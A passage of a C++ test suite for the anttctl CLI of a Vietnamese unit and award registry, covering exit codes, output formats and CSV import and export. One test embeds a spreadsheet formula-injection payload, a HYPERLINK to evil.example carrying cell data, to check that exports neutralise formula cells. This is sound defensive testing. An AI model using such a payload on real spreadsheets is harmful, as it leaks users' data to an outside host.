// The real anttctl binary against a real antt-registry process: exit codes,
// output formats, and the bulk commands (units export/import, persons
// import) with their error reports.

#include <gtest/gtest.h>
#include <signal.h>

#include <memory>
#include <nlohmann/json.hpp>
#include <sstream>
#include <string>
#include <vector>

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_split.h"
#include "absl/time/civil_time.h"
#include "absl/time/clock.h"
#include "absl/time/time.h"
#include "antt/awards/v1/awards.grpc.pb.h"
#include "antt/registry/v1/registry.grpc.pb.h"
#include "cli/csv.h"
#include "tests/cli/anttctl_runner.h"
#include "tests/testing/grpc_test_util.h"
#include "tests/testing/process.h"
#include "tests/testing/test_util.h"

namespace antt::cli {
namespace {

using ::antt::testing::BinDir;
using ::antt::testing::ChildProcess;
using ::antt::testing::ReadFile;

void WriteFile(const std::string& path, const std::string& text) {
  std::ofstream out(path, std::ios::binary);
  out << text;
}

std::vector<std::string> Lines(const std::string& text) {
  return absl::StrSplit(text, '\n', absl::SkipEmpty());
}

// A valid 10-digit Vietnamese tax code starting with `nine` digits, or ""
// when those nine give no valid check digit.
std::string TaxCode(const std::string& nine) {
  static constexpr int kWeights[] = {31, 29, 23, 19, 17, 13, 7, 5, 3};
  int sum = 0;
  for (int i = 0; i < 9; ++i) sum += (nine[i] - '0') * kWeights[i];
  const int check = 10 - sum % 11;
  return check >= 0 && check <= 9 ? nine + static_cast<char>('0' + check) : "";
}

// The n-th valid tax code.
std::string ValidTaxCode(int n) {
  for (int prefix = 100000000 + n * 7;; ++prefix) {
    const std::string code = TaxCode(std::to_string(prefix));
    if (!code.empty()) return code;
  }
}

// A tax code with a wrong check digit.
std::string InvalidTaxCode() {
  const std::string valid = ValidTaxCode(0);
  return valid.substr(0, 9) +
         static_cast<char>('0' + (valid[9] - '0' + 1) % 10);
}

// A registry that counts the first `keep` rows of an ImportUnits stream as
// created, stops reading and answers OK, as antt-registry did when it could
// not parse a row: the rows after it were counted nowhere.
class ShortCountingRegistry final
    : public registry::v1::RegistryService::Service {
 public:
  explicit ShortCountingRegistry(int keep) : keep_(keep) {}

  grpc::Status ImportUnits(
      grpc::ServerContext*,
      grpc::ServerReader<registry::v1::ImportUnitsRequest>* reader,
      registry::v1::ImportUnitsResponse* response) override {
    registry::v1::ImportUnitsRequest request;
    while (response->created() < keep_ && reader->Read(&request)) {
      response->set_created(response->created() + 1);
    }
    return grpc::Status::OK;
  }

 private:
  const int keep_;
};

// An awards service that answers a BatchNominate with the first nomination
// created and nothing, not even an error, about the others.
class ShortAnsweringAwards final : public awards::v1::AwardsService::Service {
 public:
  grpc::Status BatchNominate(
      grpc::ServerContext*, const awards::v1::BatchNominateRequest* request,
      awards::v1::BatchNominateResponse* response) override {
    if (request->nominations_size() > 0) {
      awards::v1::Nomination* n = response->add_nominations();
      *n = request->nominations(0);
      n->set_id("N0000000001");
    }
    return grpc::Status::OK;
  }
};

// An awards service whose campaign has 20 proposed eligible nominations and
// that fails every approval as a server in trouble would (INTERNAL), which
// stops a bulk approval before it tries them all.
class FailingAwards final : public awards::v1::AwardsService::Service {
 public:
  grpc::Status ListNominations(
      grpc::ServerContext*, const awards::v1::ListNominationsRequest*,
      awards::v1::ListNominationsResponse* response) override {
    for (int i = 1; i <= 20; ++i) {
      awards::v1::Nomination* n = response->add_nominations();
      n->set_id(absl::StrCat("N00000000", i < 10 ? "0" : "", i));
      n->set_stage(awards::v1::NOMINATION_STAGE_PROPOSED);
      n->set_eligible(true);
    }
    response->set_total_size(20);
    return grpc::Status::OK;
  }
  grpc::Status ApproveNomination(grpc::ServerContext*,
                                 const awards::v1::ApproveNominationRequest*,
                                 awards::v1::Nomination*) override {
    return grpc::Status(grpc::StatusCode::INTERNAL, "the disk is full");
  }
};

// Serves `service` in this process on a port of its own; returns its address.
std::string ServeInProcess(grpc::Service* service,
                           std::unique_ptr<grpc::Server>* server) {
  grpc::ServerBuilder builder;
  int port = 0;
  builder.AddListeningPort("127.0.0.1:0", grpc::InsecureServerCredentials(),
                           &port);
  builder.RegisterService(service);
  *server = builder.BuildAndStart();
  EXPECT_NE(port, 0);
  return absl::StrCat("127.0.0.1:", port);
}

class AnttctlTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = antt::testing::FreshTestDir();
    const std::string log = dir_ + "/registry.log";
    registry_ = std::make_unique<ChildProcess>(
        BinDir() + "/antt-registry",
        std::vector<std::string>{"--db_path=" + dir_ + "/db",
                                 "--listen=127.0.0.1:0", "--insecure",
                                 "--metrics_listen=", "--health_listen="},
        log);
    const int port = antt::testing::WaitForListeningPort(log);
    ASSERT_NE(port, 0) << ReadFile(log);
    address_ = absl::StrCat("127.0.0.1:", port);
    ASSERT_TRUE(antt::testing::WaitServing(address_)) << ReadFile(log);
  }

  // Runs anttctl with `args` after the connection flags and waits for it.
  Outcome Run(const std::vector<std::string>& args) {
    std::vector<std::string> all = {"--registry=" + address_, "--timeout=20"};
    if (insecure_) all.push_back("--insecure");
    if (!awards_address_.empty()) all.push_back("--awards=" + awards_address_);
    if (!scoring_address_.empty()) {
      all.push_back("--scoring=" + scoring_address_);
    }
    all.insert(all.end(), args.begin(), args.end());
    return RunAnttctl(all, {}, dir_);
  }

  // Creates an agency through anttctl; returns its id.
  std::string CreateAgency(const std::string& name,
                           const std::string& external_id) {
    const Outcome o =
        Run({"-o", "json", "units", "create", "--name", name, "--kind",
             "agency", "--province", "44", "--external-id", external_id,
             "--address", "Số 1, Đông Hà"});
    EXPECT_EQ(o.exit_code, 0) << o;
    return nlohmann::json::parse(o.out).value("id", "");
  }

  std::string Path(const std::string& name) const { return dir_ + "/" + name; }

  // Starts `binary` on a port of its choosing with `args`; returns its
  // address once it serves.
  std::string StartServer(const std::string& binary,
                          std::vector<std::string> args,
                          std::unique_ptr<ChildProcess>* child) {
    const std::string log = Path(binary + ".log");
    args.push_back("--listen=127.0.0.1:0");
    args.push_back("--insecure");
    args.push_back("--metrics_listen=");
    args.push_back("--health_listen=");
    *child = std::make_unique<ChildProcess>(BinDir() + "/" + binary, args, log);
    const int port = antt::testing::WaitForListeningPort(log);
    EXPECT_NE(port, 0) << ReadFile(log);
    const std::string address = absl::StrCat("127.0.0.1:", port);
    EXPECT_TRUE(antt::testing::WaitServing(address)) << ReadFile(log);
    return address;
  }

  // Adds antt-scoring and antt-awards beside the registry.
  void StartAwards() {
    scoring_address_ = StartServer(
        "antt-scoring",
        {"--db_path=" + Path("scoring"), "--registry_addr=" + address_},
        &scoring_);
    awards_address_ = StartServer(
        "antt-awards",
        {"--db_path=" + Path("awards"), "--registry_addr=" + address_,
         "--scoring_addr=" + scoring_address_},
        &awards_);
  }

  // Submits 2019 for `safe` (95 points) and `fire` (a serious fire: fails)
  // from a CSV file, reviews the year and decides it: `safe` recognised,
  // `fire` not.
  void AssessAndDecide2019(const std::string& safe, const std::string& fire) {
    const std::string csv = Path("decide.csv");
    WriteFile(csv, absl::StrCat("unit_id,year,points_total,events\n", safe,
                                ",2019,95,\n", fire,
                                ",2019,80,7.3.4@2019-03-01=Cháy kho\n"));
    ASSERT_EQ(Run({"assess", "submit", "--file", csv}).exit_code, 0);
    ASSERT_EQ(
        Run({"assess", "review", "--approve", "--year", "2019", "--area", "44"})
            .exit_code,
        0);
    for (const char* refuse : {"", "--not-recognized"}) {
      std::vector<std::string> args = {
          "assess", "recognize",  "--year",      "2019",
          "--area", "44",         "--decision",  "2103/QĐ-UBND",
          "--date", "2019-12-10", "--authority", "UBND tỉnh Quảng Trị"};
      if (*refuse != '\0') args.push_back(refuse);
      const Outcome o = Run(args);
      ASSERT_EQ(o.exit_code, 0) << o;
      ASSERT_TRUE(absl::StrContains(o.out, "1 assessment of 2019")) << o;
    }
  }

  std::string dir_;
  bool insecure_ = true;  // Run passes --insecure
  std::string address_;
  std::string awards_address_;
  std::string scoring_address_;
  std::unique_ptr<ChildProcess> registry_;
  std::unique_ptr<ChildProcess> scoring_;
  std::unique_ptr<ChildProcess> awards_;
};

// The version and revision of the build, from anttctl and from each
// server's --version; the servers' --help lists their own flags and the
// shared ones.
TEST_F(AnttctlTest, VersionsOfTheClientAndTheServers) {
  const Outcome flag = RunAnttctl({"--version"}, {}, dir_);
  EXPECT_EQ(flag.exit_code, 0) << flag;
  EXPECT_TRUE(absl::StartsWith(flag.out, "anttctl 0.")) << flag;
  EXPECT_TRUE(absl::StrContains(flag.out, " (revision ")) << flag;
  const Outcome command = RunAnttctl({"version"}, {}, dir_);
  EXPECT_EQ(command.exit_code, 0) << command;
  EXPECT_EQ(command.out, flag.out) << command;

  // What `command` prints on its standard output, and its exit status.
  auto run = [](const std::string& command, std::string* out) {
    FILE* pipe = popen(command.c_str(), "r");
    if (pipe == nullptr) return -1;
    char buffer[4096];
    out->clear();
    while (size_t n = fread(buffer, 1, sizeof(buffer), pipe)) {
      out->append(buffer, n);
    }
    return pclose(pipe);
  };
  const std::string version = flag.out.substr(flag.out.find(' '));
  for (const std::string server :
       {"antt-registry", "antt-scoring", "antt-awards"}) {
    SCOPED_TRACE(server);
    std::string out;
    EXPECT_EQ(run(BinDir() + "/" + server + " --version", &out), 0) << out;
    EXPECT_EQ(out, server + version) << out;
    // absl's --help exits 1 after printing the usage.
    EXPECT_NE(run(BinDir() + "/" + server + " --help 2>&1", &out), 0);
    EXPECT_TRUE(absl::StartsWith(out, server + ": " + server)) << out;
    for (const char* name : {"--db_path", "--listen", "--metrics_listen",
                             "--drain_seconds", "--tls_cert"}) {
      EXPECT_TRUE(absl::StrContains(out, name)) << name << "\n" << out;
    }
    EXPECT_TRUE(absl::StrContains(out, "Flags from common/server_flags.cc:"))
        << out;
    // Not the flags of the libraries it links (gRPC's, Abseil's own).
    EXPECT_FALSE(absl::StrContains(out, "--flagfile")) << out;
  }
}

TEST_F(AnttctlTest, UnknownFlagIsAUsageError) {
  const Outcome o = Run({"units", "list", "--colour", "red"});
  EXPECT_EQ(o.exit_code, 2) << o;
  EXPECT_TRUE(absl::StrContains(o.err, "--colour")) << o;
}

TEST_F(AnttctlTest, BadEnumIsAUsageErrorNamingTheFlagAndTheChoices) {
  const Outcome o =
      Run({"units", "create", "--name", "Sở Tư pháp", "--kind", "shop"});
  EXPECT_EQ(o.exit_code, 2) << o;
  EXPECT_TRUE(absl::StrContains(o.err, "--kind")) << o;
  EXPECT_TRUE(absl::StrContains(o.err, "agency | enterprise | education")) << o;
}

// A mistyped command is a usage error naming the closest command and the
// valid ones; a group without its command names the valid ones.
TEST_F(AnttctlTest, AMistypedCommandSuggestsTheClosest) {
  struct Case {
    std::vector<std::string> args;
    std::string want;
  };
  for (const Case& c : std::vector<Case>{
           {{"units", "lst"},
            "error: unknown command \"lst\" for \"anttctl units\"; did you "
            "mean \"list\"?\nvalid commands: create, update, export, import, "
            "get, list, dissolve\n"},
           {{"unitz", "list"},
            "error: unknown command \"unitz\" for \"anttctl\"; did you mean "
            "\"units\"?\n"},
           {{"admin", "bakup", "--service", "registry"},
            "did you mean \"backup\"?"},
           {{"awards", "xyz"},
            "error: unknown command \"xyz\" for \"anttctl awards\"\nvalid "
            "commands: "},
           {{"audit"},
            "error: \"anttctl audit\" needs a command: list, verify\n"}}) {
    const Outcome o = Run(c.args);
    EXPECT_EQ(o.exit_code, 2) << o;
    EXPECT_TRUE(absl::StrContains(o.err, c.want)) << c.want << "\n" << o;
  }
  // Other usage errors keep CLI11's own message.
  const Outcome missing = Run({"units", "get"});
  EXPECT_EQ(missing.exit_code, 2) << missing;
  EXPECT_TRUE(absl::StrContains(missing.err, "id is required")) << missing;
}

TEST_F(AnttctlTest, BadDateIsAUsageError) {
  const Outcome o =
      Run({"units", "create", "--name", "Sở Tư pháp", "--kind", "agency",
           "--province", "44", "--established", "28/11/2019"});
  EXPECT_EQ(o.exit_code, 2) << o;
  EXPECT_TRUE(absl::StrContains(o.err, "--established")) << o;
  EXPECT_TRUE(absl::StrContains(o.err, "YYYY-MM-DD")) << o;
}

TEST_F(AnttctlTest, MissingUnitExitsThree) {
  const Outcome o = Run({"units", "get", "U0000000099"});
  EXPECT_EQ(o.exit_code, 3) << o;
  EXPECT_TRUE(absl::StrContains(o.err, "NOT_FOUND")) << o;
}

TEST_F(AnttctlTest, RejectedCreateExitsFourNamingTheField) {
  const Outcome o = Run({"units", "create", "--name", "Công ty Hòa Bình",
                         "--kind", "enterprise", "--enterprise-size", "medium",
                         "--tax-code", InvalidTaxCode(), "--province", "44"});
  EXPECT_EQ(o.exit_code, 4) << o;
  EXPECT_TRUE(absl::StrContains(o.err, "unit.tax_code")) << o;
}

TEST_F(AnttctlTest, ServerDownExitsOneWithAClearMessage) {
  EXPECT_EQ(registry_->Stop(SIGTERM), 0);
  const Outcome o = Run({"units", "get", "U0000000001"});
  EXPECT_EQ(o.exit_code, 1) << o;
  EXPECT_TRUE(absl::StrContains(o.err, "cannot reach the service")) << o;
  EXPECT_TRUE(absl::StrContains(o.err, "UNAVAILABLE")) << o;
}

TEST_F(AnttctlTest, AnUnreadableCaFileIsAUsageErrorNamingTheFlag) {
  insecure_ = false;
  const Outcome o =
      Run({"--ca", dir_ + "/no-such-ca.pem", "units", "get", "U0000000001"});
  EXPECT_EQ(o.exit_code, 2) << o;
  EXPECT_TRUE(absl::StrContains(o.err, "--ca")) << o;
}

TEST_F(AnttctlTest, WithoutInsecureItSpeaksTlsWhichAPlaintextServerRefuses) {
  insecure_ = false;
  const Outcome o = Run({"units", "get", "U0000000001"});
  EXPECT_EQ(o.exit_code, 1) << o;
  EXPECT_TRUE(absl::StrContains(o.err, "UNAVAILABLE")) << o;
}

TEST_F(AnttctlTest, JsonParsesAndCsvHasTheHeader) {
  CreateAgency("Sở Tư pháp, tỉnh Quảng Trị", "A1");
  const Outcome json = Run({"-o", "json", "units", "list"});
  ASSERT_EQ(json.exit_code, 0) << json;
  const nlohmann::json list = nlohmann::json::parse(json.out);
  ASSERT_EQ(list.at("units").size(), 1u) << json;
  EXPECT_EQ(list["units"][0].value("name", ""), "Sở Tư pháp, tỉnh Quảng Trị");

  const Outcome csv = Run({"-o", "csv", "units", "list"});
  ASSERT_EQ(csv.exit_code, 0) << csv;
  const std::vector<std::string> lines = Lines(csv.out);
  ASSERT_EQ(lines.size(), 2u) << csv;
  EXPECT_EQ(lines[0], "ID,NAME,KIND,IN SCOPE,PROVINCE,LEGACY,STATUS");
  EXPECT_TRUE(absl::StartsWith(
      lines[1], "U0000000001,\"Sở Tư pháp, tỉnh Quảng Trị\",agency,"))
      << csv;
}

TEST_F(AnttctlTest, UpdateChangesOnlyTheFlagsGiven) {
  const std::string id = CreateAgency("Sở Tư pháp", "A1");
  const Outcome o = Run({"-o", "json", "units", "update", id, "--name",
                         "Sở Tư pháp tỉnh Quảng Trị", "--model", "Tổ tự quản"});
  ASSERT_EQ(o.exit_code, 0) << o;
  const nlohmann::json unit = nlohmann::json::parse(o.out);
  EXPECT_EQ(unit.value("name", ""), "Sở Tư pháp tỉnh Quảng Trị");
  EXPECT_EQ(unit.value("address", ""), "Số 1, Đông Hà");  // untouched
  EXPECT_EQ(unit.value("external_id", ""), "A1");
  EXPECT_EQ(unit.at("models"), nlohmann::json::array({"Tổ tự quản"}));

  const Outcome nothing = Run({"units", "update", id});
  EXPECT_EQ(nothing.exit_code, 2) << nothing;
  const Outcome stale =
      Run({"units", "update", id, "--headcount", "3", "--etag", "stale"});
  EXPECT_EQ(stale.exit_code, 4) << stale;
}

TEST_F(AnttctlTest, ImportReportsRowsRefusedHereAndByTheServerByFileRow) {
  // A blank line after row 1 (skipped: rows are data rows, not lines); row 2
  // has a bad number (refused by anttctl, never sent); row 3 names a
  // province that does not exist (refused by the server, for which it is the
  // 2nd row of the stream); row 4 is good.
  const std::string csv = Path("units.csv");
  WriteFile(csv,
            "external_id,name,kind,province_code,address,headcount\n"
            "A1,Sở Tư pháp,agency,44,\"Số 1, phố Hùng Vương\",40\n\n"
            "A2,Sở Xây dựng,agency,44,,many\n"
            "A3,Sở Y tế,agency,99,,10\n"
            "A4,Sở Tài chính,agency,44,,12\n");
  const Outcome o = Run({"units", "import", csv});
  EXPECT_EQ(o.exit_code, 4) << o;
  EXPECT_TRUE(absl::StrContains(o.out, "created 2, updated 0, rejected 2"))
      << o;
  const std::string report = csv + ".errors.csv";
  EXPECT_TRUE(absl::StrContains(o.out, report)) << o;
  const std::vector<std::string> lines = Lines(ReadFile(report));
  ASSERT_EQ(lines.size(), 3u) << ReadFile(report);
  EXPECT_EQ(lines[0], "row,field,message");
  EXPECT_TRUE(absl::StartsWith(lines[1], "2,headcount,")) << lines[1];
  EXPECT_TRUE(absl::StartsWith(lines[2], "3,unit.province_code,")) << lines[2];

  const Outcome list = Run({"-o", "json", "units", "list"});
  ASSERT_EQ(list.exit_code, 0) << list;
  const nlohmann::json units = nlohmann::json::parse(list.out).at("units");
  ASSERT_EQ(units.size(), 2u) << list;
  EXPECT_EQ(units[0].value("address", ""), "Số 1, phố Hùng Vương");
  EXPECT_EQ(units[1].value("name", ""), "Sở Tài chính");
}

TEST_F(AnttctlTest, ImportRefusesARowThatIsNotUtf8AndImportsTheOthers) {
  // Row 3 was typed in a Latin-1 editor: "Café" with é as the byte 0xE9.
  const std::string csv = Path("units.csv");
  WriteFile(csv,
            "external_id,name,kind,province_code\n"
            "A1,Sở Tư pháp,agency,44\n"
            "A2,Sở Xây dựng,agency,44\n"
            "A3,Caf\xE9"
            " Thu Bồn,agency,44\n"
            "A4,Sở Y tế,agency,44\n"
            "A5,Sở Tài chính,agency,44\n");
  const Outcome o = Run({"units", "import", csv});
  EXPECT_EQ(o.exit_code, 4) << o;
  EXPECT_TRUE(absl::StrContains(o.out, "created 4, updated 0, rejected 1"))
      << o;
  const std::vector<std::string> lines = Lines(ReadFile(csv + ".errors.csv"));
  ASSERT_EQ(lines.size(), 2u) << ReadFile(csv + ".errors.csv");
  EXPECT_TRUE(absl::StartsWith(lines[1], "3,name,")) << lines[1];
  EXPECT_TRUE(absl::StrContains(lines[1], "0xE9")) << lines[1];
  EXPECT_TRUE(absl::StrContains(lines[1], "save the file as UTF-8"))
      << lines[1];

  const Outcome list = Run({"-o", "json", "units", "list"});
  ASSERT_EQ(list.exit_code, 0) << list;
  const nlohmann::json units = nlohmann::json::parse(list.out);
  std::vector<std::string> imported;
  for (const auto& unit : units.at("units")) {
    imported.push_back(unit.value("external_id", ""));
  }
  EXPECT_EQ(imported, (std::vector<std::string>{"A1", "A2", "A4", "A5"}))
      << list;
}

TEST_F(AnttctlTest, ImportOfAWindows1258FileRejectsEveryRow) {
  // Vietnamese as Windows-1258 writes it: "Sở Tư pháp" is S, ơ (0xF5), a
  // combining hook (0xD2), ...
  const std::string csv = Path("units.csv");
  WriteFile(csv,
            "external_id,name,kind,province_code,address\n"
            "A1,S\xF5\xD2 T\xFD ph\xE1p,agency,44,\xD0\xF4ng H\xE0\n"
            "A2,S\xF5\xD2 Y t\xEA\xEC,agency,44,\n"
            "S1,Tr\xFD\xF5\xCCng THPT Nguy\xEA\xDEn Du,education,44,\n");
  const Outcome o = Run({"units", "import", csv});
  EXPECT_EQ(o.exit_code, 4) << o;
  EXPECT_TRUE(absl::StrContains(o.out, "created 0, updated 0, rejected 3"))
      << o;
  const std::vector<std::string> lines = Lines(ReadFile(csv + ".errors.csv"));
  ASSERT_EQ(lines.size(), 5u) << ReadFile(csv + ".errors.csv");
  EXPECT_TRUE(absl::StartsWith(lines[1], "1,name,")) << lines[1];
  EXPECT_TRUE(absl::StartsWith(lines[2], "1,address,")) << lines[2];
  EXPECT_TRUE(absl::StartsWith(lines[3], "2,name,")) << lines[3];
  EXPECT_TRUE(absl::StartsWith(lines[4], "3,name,")) << lines[4];
  for (size_t i = 1; i < lines.size(); ++i) {
    EXPECT_TRUE(absl::StrContains(lines[i], "save the file as UTF-8"))
        << lines[i];
  }

  const Outcome list = Run({"-o", "json", "units", "list"});
  ASSERT_EQ(list.exit_code, 0) << list;
  EXPECT_EQ(
      nlohmann::json::parse(list.out).value("units", nlohmann::json::array()),
      nlohmann::json::array())
      << list;
}

TEST_F(AnttctlTest, PersonsImportRefusesARowThatIsNotUtf8) {
  const std::string unit = CreateAgency("Sở Tư pháp", "A1");
  // Row 2's name is "Trần Thị Bình" in Windows-1258.
  const std::string csv = Path("persons.csv");
  WriteFile(csv, absl::StrCat("full_name,gender,birth_year,unit_id,since\n"
                              "Nguyễn Văn An,male,1970,",
                              unit,
                              ",2010-01-01\n"
                              "Tr\xE2\xCCn Thi\xF2 Bi\xCCnh,female,1980,",
                              unit,
                              ",2015-03-01\n"
                              "Lê Văn Cường,male,1985,",
                              unit, ",2016-01-01\n"));
  const Outcome o = Run({"-o", "csv", "persons", "import", csv});
  EXPECT_EQ(o.exit_code, 4) << o;
  const std::vector<std::string> lines = Lines(o.out);
  ASSERT_EQ(lines.size(), 3u) << o;
  EXPECT_TRUE(absl::StartsWith(lines[1], "1,P")) << o;
  EXPECT_TRUE(absl::StartsWith(lines[2], "3,P")) << o;
  EXPECT_TRUE(absl::StrContains(o.err, "2 created")) << o;
  EXPECT_TRUE(absl::StrContains(o.err, "1 rejected")) << o;
  const std::vector<std::string> errors = Lines(ReadFile(csv + ".errors.csv"));
  ASSERT_EQ(errors.size(), 2u) << ReadFile(csv + ".errors.csv");
  EXPECT_TRUE(absl::StartsWith(errors[1], "2,full_name,")) << errors[1];
  EXPECT_TRUE(absl::StrContains(errors[1], "save the file as UTF-8"))
      << errors[1];
}

TEST_F(AnttctlTest, ImportFailsWhenTheServerAccountsForFewerRowsThanSent) {
  ShortCountingRegistry registry(/*keep=*/2);
  std::unique_ptr<grpc::Server> server;
  address_ = ServeInProcess(&registry, &server);
  const std::string csv = Path("units.csv");
  WriteFile(csv,
            "external_id,name,kind,province_code\n"
            "A1,Sở Tư pháp,agency,44\n"
            "A2,Sở Xây dựng,agency,44\n"
            "A3,Sở Y tế,agency,44\n"
            "A4,Sở Tài chính,agency,44\n"
            "A5,Sở Nội vụ,agency,44\n");
  const Outcome o = Run({"units", "import", csv});
  EXPECT_EQ(o.exit_code, 1) << o;
  EXPECT_TRUE(absl::StrContains(o.out, "created 2, updated 0, rejected 0"))
      << o;
  EXPECT_TRUE(
      absl::StrContains(o.err, "units import: the counts do not add up"))
      << o;
  const std::vector<std::string> lines = Lines(ReadFile(csv + ".errors.csv"));
  ASSERT_EQ(lines.size(), 2u) << ReadFile(csv + ".errors.csv");
  EXPECT_TRUE(absl::StartsWith(lines[1], "0,,\"the counts do not add up"))
      << lines[1];
}

TEST_F(AnttctlTest, ImportRefusesUnknownAndMissingColumnsNamingThem) {
  const std::string csv = Path("units.csv");
  WriteFile(csv, "name,colour,province_code,size\nSở Tư pháp,red,44,1\n");
  const std::string report = Path("report.csv");
  const Outcome o = Run({"units", "import", csv, "--errors", report});
  EXPECT_EQ(o.exit_code, 4) << o;
  EXPECT_TRUE(absl::StrContains(o.err, "kind")) << o;  // missing
  EXPECT_TRUE(absl::StrContains(ReadFile(report), "0,,")) << ReadFile(report);

  WriteFile(csv, "name,kind,colour,size\nSở Tư pháp,agency,red,1\n");
  const Outcome unknown = Run({"units", "import", csv, "--errors", report});
  EXPECT_EQ(unknown.exit_code, 4) << unknown;
  EXPECT_TRUE(absl::StrContains(unknown.err, "colour, size")) << unknown;
}

TEST_F(AnttctlTest, ExportThenImportUpdatesEveryRowAndCreatesNone) {
  const std::string csv = Path("new.csv");
  WriteFile(csv, absl::StrCat(
                     "external_id,name,kind,enterprise_size,education_level,"
                     "tax_code,province_code,established_date,models\n"
                     "A1,Sở Tư pháp,agency,,,,44,2001-09-05,Tổ A;Tổ B\n",
                     ",Công ty Hòa Bình,enterprise,medium,,", ValidTaxCode(1),
                     ",44,,\n"
                     "S1,Trường THPT Nguyễn Du,education,,upper-secondary,,44,"
                     ",\n"));
  const Outcome created = Run({"units", "import", csv});
  ASSERT_EQ(created.exit_code, 0) << created;
  EXPECT_TRUE(
      absl::StrContains(created.out, "created 3, updated 0, rejected 0"))
      << created;

  const std::string exported = Path("export.csv");
  const Outcome out = Run({"units", "export", "--file", exported});
  ASSERT_EQ(out.exit_code, 0) << out;
  const std::vector<std::string> lines = Lines(ReadFile(exported));
  ASSERT_EQ(lines.size(), 4u) << ReadFile(exported);
  EXPECT_EQ(lines[0],
            "id,external_id,name,kind,enterprise_size,education_level,"
            "armed_forces,tax_code,province_code,commune_code,"
            "legacy_province_code,legacy_district_code,legacy_commune_code,"
            "managing_level,established_date,managing_body,address,headcount,"
            "has_party_organization,security_force_size,models,status,"
            "in_scope,dissolve_date");
  EXPECT_EQ(lines[1],
            "U0000000001,A1,Sở Tư pháp,agency,,,false,,44,,,,,province,"
            "2001-09-05,,,0,false,0,Tổ A;Tổ B,active,true,");
  EXPECT_TRUE(absl::StrContains(lines[3], ",upper-secondary,")) << lines[3];

  const Outcome again = Run({"units", "import", exported});
  EXPECT_EQ(again.exit_code, 0) << again;
  EXPECT_TRUE(absl::StrContains(again.out, "created 0, updated 3, rejected 0"))
      << again;
  EXPECT_FALSE(std::filesystem::exists(exported + ".errors.csv"));

  const Outcome json = Run({"-o", "json", "units", "import", exported});
  ASSERT_EQ(json.exit_code, 0) << json;
  const nlohmann::json summary = nlohmann::json::parse(json.out);
  EXPECT_EQ(summary.value("created", -1), 0) << json;
  EXPECT_EQ(summary.value("updated", -1), 3) << json;
}

TEST_F(AnttctlTest, ExportsGuardFormulaCellsAndImportTakesTheGuardOff) {
  const std::string hyperlink =
      "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")";
  const std::string csv = Path("units.csv");
  WriteFile(csv,
            "external_id,name,kind,province_code,managing_body,address,"
            "headcount,models\n"
            "-A7,\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Bấm vào "
            "đây\"\")\",agency,44,@Sở Nội vụ,+84 233 3852 123,12,"
            "=1+1;Tổ tự quản\n");
  const Outcome created = Run({"units", "import", csv});
  ASSERT_EQ(created.exit_code, 0) << created;

  const std::string exported = Path("export.csv");
  const Outcome out = Run({"units", "export", "--file", exported});
  ASSERT_EQ(out.exit_code, 0) << out;
  const std::vector<std::string> lines = Lines(ReadFile(exported));
  ASSERT_EQ(lines.size(), 2u) << ReadFile(exported);
  // Text cells get a ' before a formula character; numbers, enums, booleans
  // do not.
  EXPECT_EQ(lines[1],
            "U0000000001,'-A7,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,"
            "\"\"Bấm vào đây\"\")\",agency,,,false,,44,,,,,province,,"
            "'@Sở Nội vụ,'+84 233 3852 123,12,false,0,'=1+1;Tổ tự quản,active,"
            "true,");
  const Outcome list = Run({"-o", "csv", "units", "list"});
  ASSERT_EQ(list.exit_code, 0) << list;
  EXPECT_TRUE(absl::StrContains(
      list.out, "U0000000001,\"'=HYPERLINK(\"\"http://evil.example/"))
      << list;

  // Imported back, the export changes nothing: every cell reads as it was.
  const Outcome again = Run({"units", "import", exported});
  EXPECT_EQ(again.exit_code, 0) << again;
  EXPECT_TRUE(absl::StrContains(again.out, "created 0, updated 1, rejected 0"))
      << again;
  const Outcome got = Run({"-o", "json", "units", "get", "U0000000001"});
  ASSERT_EQ(got.exit_code, 0) << got;
  const nlohmann::json unit = nlohmann::json::parse(got.out);
  EXPECT_EQ(unit.value("name", ""), hyperlink);
  EXPECT_EQ(unit.value("external_id", ""), "-A7");
  EXPECT_EQ(unit.value("managing_body", ""), "@Sở Nội vụ");
  EXPECT_EQ(unit.value("address", ""), "+84 233 3852 123");
  EXPECT_EQ(unit.at("models"), nlohmann::json::array({"=1+1", "Tổ tự quản"}));

  // Persons too: the export and -o csv of the list.
  const Outcome person =
      Run({"persons", "create", "--name", "=1+2", "--gender", "male",
           "--birth-year", "1970", "--unit", "U0000000001", "--since",
           "2010-01-01", "--title", "@Tổ trưởng"});
  ASSERT_EQ(person.exit_code, 0) << person;
  const Outcome persons = Run({"persons", "export"});
  ASSERT_EQ(persons.exit_code, 0) << persons;
  EXPECT_TRUE(absl::StrContains(
      persons.out,
      ",'=1+2,male,1970,U0000000001,active,false,leader|@Tổ trưởng|"))
      << persons;
  const Outcome persons_csv = Run({"-o", "csv", "persons", "list"});
  ASSERT_EQ(persons_csv.exit_code, 0) << persons_csv;
  EXPECT_TRUE(absl::StrContains(persons_csv.out, ",'=1+2,male,1970,"))
      << persons_csv;
}

TEST_F(AnttctlTest, TitlesAndModelsHoldingListSeparatorsComeBackWhole) {
  const std::string title = "Tổ trưởng | phó; kiêm \\ thư ký";
  const Outcome unit =
      Run({"-o", "json", "units", "create", "--name", "Sở Tư pháp", "--kind",
           "agency", "--province", "44", "--external-id", "A1", "--model",
           "Tổ A; kiêm B", "--model", "Camera | an ninh\\"});
  ASSERT_EQ(unit.exit_code, 0) << unit;
  const std::string unit_id = nlohmann::json::parse(unit.out).value("id", "");
  const Outcome person =
      Run({"persons", "create", "--name", "Nguyễn Văn An", "--gender", "male",
           "--birth-year", "1970", "--unit", unit_id, "--since", "2010-01-01",
           "--title", title});
  ASSERT_EQ(person.exit_code, 0) << person;

  // The positions cell splits into one position of six fields again.
  const Outcome persons = Run({"persons", "export"});
  ASSERT_EQ(persons.exit_code, 0) << persons;
  std::istringstream in(persons.out);
  CsvReader reader(in);
  ASSERT_TRUE(reader.ReadHeader().ok()) << persons;
  CsvRecord record;
  absl::Status error;
  ASSERT_TRUE(reader.Next(&record, &error)) << persons;
  ASSERT_TRUE(error.ok()) << error;
  std::vector<std::vector<std::string>> positions;
  for (const std::string& item :
       SplitEscaped(reader.Get(record, "positions"), ';')) {
    std::vector<std::string> fields;
    for (const std::string& field : SplitEscaped(item, '|')) {
      fields.push_back(UnescapeListValue(field));
    }
